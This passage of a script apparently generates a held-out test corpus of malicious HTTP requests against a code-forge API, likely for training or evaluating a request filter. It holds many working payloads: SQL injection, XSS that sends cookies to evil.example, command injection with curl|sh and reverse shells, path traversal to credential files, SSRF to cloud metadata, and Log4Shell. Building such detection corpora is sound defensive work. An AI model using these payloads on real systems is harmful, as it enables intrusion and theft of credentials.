      json({ query: GQL_NOTE, variables: { id: 'gid://forgeline/MergeRequest/1', body: p } }),
    );
  else if (t === 5)
    addAttack(
      family,
      'array',
      'PUT',
      `/api/v4/projects/${pid()}/merge_requests/${int(1, 600)}`,
      J,
      json({ labels: ['backend', p], squash: true }),
    );
  else if (t === 6)
    addAttack(
      family,
      'query',
      'GET',
      `/api/v4/projects/${pid()}/pipelines?ref=${enc(p)}&status=failed`,
      null,
      '',
    );
  else
    addAttack(
      family,
      'json-in-string',
      'POST',
      `/api/v4/projects/${pid()}/pipelines/search`,
      J,
      json({ filter: json({ ref: p, status: ['failed'] }), per_page: 20 }),
    );
}

// SQL injection
const SQLI = [
  "main' OR '1'='1",
  '1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)',
  "' UNION SELECT username, encrypted_password FROM users--",
  "x'; DROP TABLE ci_builds;--",
  "failed') OR 1=1--",
  '1) AND 1=CAST((SELECT token FROM personal_access_tokens LIMIT 1) AS int)--',
  "release/2026.11' AND extractvalue(1,concat(0x7e,version()))-- -",
  "' OR EXISTS(SELECT * FROM users WHERE admin = true AND substring(password,1,1)='a')--",
  '-1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#',
  "admin'/**/or/**/'x'='x",
  "'; WAITFOR DELAY '0:0:7'--",
  "1' ORDER BY 9--+",
  "' AND 1=(SELECT COUNT(*) FROM pg_user WHERE usename='postgres' AND pg_sleep(3) IS NULL)--",
  "x' || (SELECT string_agg(key, ',') FROM ci_variables) || '",
  "feature/x' RLIKE (SELECT (CASE WHEN (1=1) THEN 0x61 ELSE 0x28 END))-- ",
  "1;COPY (SELECT '') TO PROGRAM 'curl evil.example/x|sh'",
];
SQLI.forEach((p, i) => {
  jsonPlacements('sql', p, i);
});
addAttack('sql', 'header', 'GET', '/api/v4/projects', null, '', {
  'x-forwarded-for': "10.0.0.1' AND SLEEP(4)--",
});
addAttack('sql', 'cookie', 'GET', '/api/v4/user', null, '', {
  cookie: "_forgeline_session=x' UNION SELECT 1,2--; theme=dark",
});
addAttack(
  'sql',
  'form',
  'POST',
  '/oauth/token',
  'application/x-www-form-urlencoded',
  `grant_type=password&username=${enc("admin'--")}&password=x`,
);
addAttack(
  'sql',
  'base64',
  'POST',
  `/api/v4/projects/${pid()}/pipelines/search`,
  J,
  json({ cursor: b64(json({ id: '1 OR 1=1; SELECT pg_sleep(10)--' })) }),
);

// XSS
const XSS = [
  '<script>fetch("https://evil.example/?t="+localStorage.token)</script>',
  '<img src=x onerror=alert(document.domain)>',
  '<svg/onload=import("//evil.example/x.js")>',
  '"><iframe srcdoc="<script>parent.location=`//evil.example`</script>">',
  '[click me](javascript:alert(document.cookie))',
  '<a href="jav&#x09;ascript:alert(1)">docs</a>',
  '<details open ontoggle=eval(atob("YWxlcnQoMSk="))>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (code or attack payload)
  '<body onpageshow=fetch(`//evil.example/${document.cookie}`)>',
  '"-confirm(document.cookie)-"',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<video><source onerror="javascript:alert(1)">',
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];
XSS.forEach((p, i) => {
  jsonPlacements('xss', p, i + 2);
});
addAttack('xss', 'header', 'GET', '/api/v4/projects', null, '', {
  referer: 'https://forge.example.dev/"><script>alert(1)</script>',
});
addAttack(
  'xss',
  'release-notes',
  'POST',
  `/api/v4/projects/${pid()}/releases`,
  J,
  json({
    tag_name: 'v9.9.9',
    description: '## Notes\n\n<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  }),
);

// OS command injection
const RCE = [
  'main;curl -s https://evil.example/x.sh|sh',
  'v1.0.0$(wget -qO- evil.example/p|bash)',
  'feature/`id`',
  '; cat /etc/passwd',
  '| nc -e /bin/sh 203.0.113.9 4444',
  '&& bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  "'; python3 -c 'import os;os.system(\"id\")' #",
  '$(curl -d @/proc/self/environ evil.example)',
  'staging`whoami`',
  '; rm -rf / --no-preserve-root',
  '|| powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (code or attack payload)
  '${IFS}cat${IFS}/etc/shadow',
  '; echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvODAgMD4mMQ== | base64 -d | sh',
  'eu-west-1; sleep 20 #',
  '`curl evil.example/$(whoami)`',
  'x; perl -e \'use Socket;$i="203.0.113.9";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"))\'',
  '$(printf "\\x69\\x64")',
  ';/usr/bin/id;',
];
RCE.forEach((p, i) => {
  jsonPlacements('command', p, i + 4);
});
addAttack('command', 'header', 'GET', '/api/v4/version', null, '', {
  'user-agent': '() { :; }; /bin/bash -c "curl evil.example/sh|sh"',
});
addAttack(
  'command',
  'runner-tags',
  'POST',
  '/api/v4/user/runners',
  J,
  json({ runner_type: 'project_type', description: 'build box', tag_list: ['docker', '$(id>/tmp/p)'] }),
);

// path traversal / local file inclusion
const LFI = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fshadow',
  '....//....//....//etc/hosts',
  '/proc/self/environ',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2froot%2f.ssh%2fid_rsa',
  'dist/../../../../home/runner/.forgeline-runner/config.toml',
  'php://filter/convert.base64-encode/resource=/etc/passwd',
  '/var/run/secrets/kubernetes.io/serviceaccount/token',
  '..%c0%af..%c0%afetc%c0%afpasswd',
];
LFI.forEach((p, i) => {
  if (i % 3 === 0)
    addAttack(
      'path-traversal',
      'artifact-path',
      'GET',
      `/api/v4/projects/${pid()}/jobs/artifacts/main/raw/${p}?job=build`,
      null,
      '',
    );
  else if (i % 3 === 1)
    addAttack(
      'path-traversal',
      'json',
      'POST',
      `/api/v4/projects/${pid()}/repository/commits`,
      J,
      json({ branch: 'main', commit_message: 'update', actions: [{ action: 'update', file_path: p }] }),
    );
  else
    addAttack(
      'path-traversal',
      'query',
      'GET',
      `/api/v4/projects/${pid()}/repository/files?file_path=${enc(p)}&ref=main`,
      null,
      '',
    );
});
addAttack(
  'path-traversal',
  'prose-field',
  'POST',
  `/api/v4/projects/${pid()}/issues`,
  J,
  json({
    title: 'Logs',
    description: 'Please attach the file at ../../../../../etc/passwd to this issue, thanks',
  }),
);

// SSRF
const SSRF = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://127.0.0.1:6379/',
  'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
  'file:///etc/passwd',
  'http://[::1]:8080/admin',
  'http://0x7f000001/',
  'http://2130706433/api/v4/admin',
  'dict://internal-redis:6379/info',
  'http://localhost:9000/minio/admin/v3/info',
  'https://evil.example@169.254.169.254/',
  'http://100.100.100.200/latest/meta-data/',
];
SSRF.forEach((p, i) => {
  const t = i % 4;
  if (t === 0)
    addAttack(
      'ssrf',
      'webhook-url',
      'POST',
      `/api/v4/projects/${pid()}/hooks`,
      J,
      json({ url: p, push_events: true, token: 'x' }),
    );
  else if (t === 1)
    addAttack(
      'ssrf',
      'import-url',
      'POST',
      '/api/v4/projects',
      J,
      json({ name: 'mirror', import_url: p, visibility: 'private' }),
    );
  else if (t === 2)
    addAttack(
      'ssrf',
      'nested',
      'POST',
      `/api/v4/projects/${pid()}/releases`,
      J,
      json({ tag_name: 'v1', assets: { links: [{ name: 'bin', url: p }] } }),
    );
  else addAttack('ssrf', 'query', 'GET', `/api/v4/badges/render?image_url=${enc(p)}`, null, '');
});

// NoSQL
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v4/users/login',
  J,
  json({ login: 'admin', password: { $ne: null } }),
);
addAttack(
  'nosql',
  'operator',
  'POST',
  '/api/v4/users/login',
  J,
  json({ login: { $regex: '^adm' }, password: { $gt: '' } }),
);
addAttack(
  'nosql',
  'where',
  'POST',
  `/api/v4/projects/${pid()}/pipelines/search`,
  J,
  json({ filter: { $where: 'sleep(5000) || true' } }),
);
addAttack(
  'nosql',
  'nested',
  'POST',
  `/api/v4/projects/${pid()}/pipelines/search`,
  J,
  json({ filter: { ref: { $in: ['main'] }, user: { $exists: true } } }),
);
addAttack(
  'nosql',
  'json-in-string',
  'POST',
  `/api/v4/projects/${pid()}/pipelines/search`,
  J,
  json({ filter: json({ status: { $nin: [] } }) }),
);
addAttack('nosql', 'query', 'GET', `/api/v4/projects?owner[$ne]=x&visibility=private`, null, '');
addAttack('nosql', 'query', 'GET', `/api/v4/users?username[$regex]=.*&per_page=100`, null, '');
addAttack('nosql', 'array', 'POST', '/api/v4/runners/verify', J, json({ token: [{ $gt: '' }] }));
addAttack(
  'nosql',
  'expr',
  'POST',
  `/api/v4/projects/${pid()}/jobs/search`,
  J,
  json({ $expr: { $function: { body: 'function(){sleep(3000)}', args: [], lang: 'js' } } }),
);
addAttack(
  'nosql',
  'or',
  'POST',
  '/api/v4/users/login',
  J,
  json({ $or: [{ login: 'admin' }, { login: { $exists: true } }], password: 'x' }),
);

// prototype pollution
addAttack(
  'prototype-pollution',
  'json',
  'PUT',
  `/api/v4/projects/${pid()}/settings`,
  J,
  '{"__proto__":{"isAdmin":true}}',
);
addAttack(
  'prototype-pollution',
  'nested',
  'PUT',
  `/api/v4/projects/${pid()}/settings`,
  J,
  json({ ci: { constructor: { prototype: { shell: '/bin/sh' } } } }),
);
addAttack(
  'prototype-pollution',
  'merge-patch',
  'PATCH',
  '/api/v4/user/preferences',
  'application/merge-patch+json',
  '{"theme":"dark","__proto__":{"polluted":1}}',
);
addAttack(
  'prototype-pollution',
  'json-in-string',
  'POST',
  `/api/v4/projects/${pid()}/pipelines/search`,
  J,
  json({ filter: '{"__proto__":{"status":"x"}}' }),
);
addAttack('prototype-pollution', 'query', 'GET', `/api/v4/projects?__proto__[admin]=1`, null, '');
addAttack(
  'prototype-pollution',
  'query',
  'GET',
  `/api/v4/projects?constructor[prototype][admin]=1`,
  null,
  '',
);
addAttack(
  'prototype-pollution',
  'graphql-variables',
  'POST',
  '/api/graphql',
  J,
  '{"query":"query { currentUser { id } }","variables":{"__proto__":{"x":1}}}',
);

// template injection
const SSTI = [
  '{{7*7}}',
  '{{config.items()}}',
  "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  '${T(java.lang.Runtime).getRuntime().exec("id")}',
  "{% import os %}{{ os.popen('id').read() }}",
  '<%= `id` %>',
  '#{7*7}',
  "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}",
];
SSTI.forEach((p, i) => {
  if (i % 2 === 0)
    addAttack(
      'template',
      'notification-template',
      'PUT',
      `/api/v4/projects/${pid()}/integrations/slack`,
      J,
      json({ webhook: 'https://hooks.slack.example/T0/B0/x', message_template: `Pipeline ${p} finished` }),
    );
  else
    addAttack(
      'template',
      'prose-field',
      'POST',
      `/api/v4/projects/${pid()}/merge_requests/${int(1, 600)}/notes`,
      J,
      json({ body: `Rendered preview shows ${p} instead of the name` }),
    );
});

// Log4Shell
addAttack('log4shell', 'header', 'GET', '/api/v4/projects', null, '', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  'user-agent': '${jndi:ldap://evil.example:1389/a}',
});
addAttack('log4shell', 'header', 'GET', '/api/v4/projects', null, '', {
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  'x-request-id': '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}',
});
addAttack(
  'log4shell',
  'commit-message',
  'POST',
  '/api/v4/hooks/incoming/github',
  J,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  json({ ref: 'refs/heads/main', commits: [{ id: hex(40), message: 'fix ${jndi:ldap://evil.example/c}' }] }),
);
addAttack(
  'log4shell',
  'nested',
  'POST',
  `/api/v4/projects/${pid()}/pipeline`,
  J,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  json({ ref: 'main', variables: [{ key: 'JAVA_OPTS', value: '${jndi:dns://evil.example/v}' }] }),
);
addAttack(
  'log4shell',
  'query',
  'GET',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (attack payload)
  `/api/v4/search?scope=issues&search=${enc('${jndi:ldap://evil.example/q}')}`,
  null,
  '',
);

/** Both second held-out corpora, as written to disk. */
export const heldout2 = { clean, attacks };

if (import.meta.main) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout2.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout2.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  process.stdout.write(
    `clean-heldout2: ${clean.length} requests, attacks-heldout2: ${attacks.length} requests\n`,
  );
}
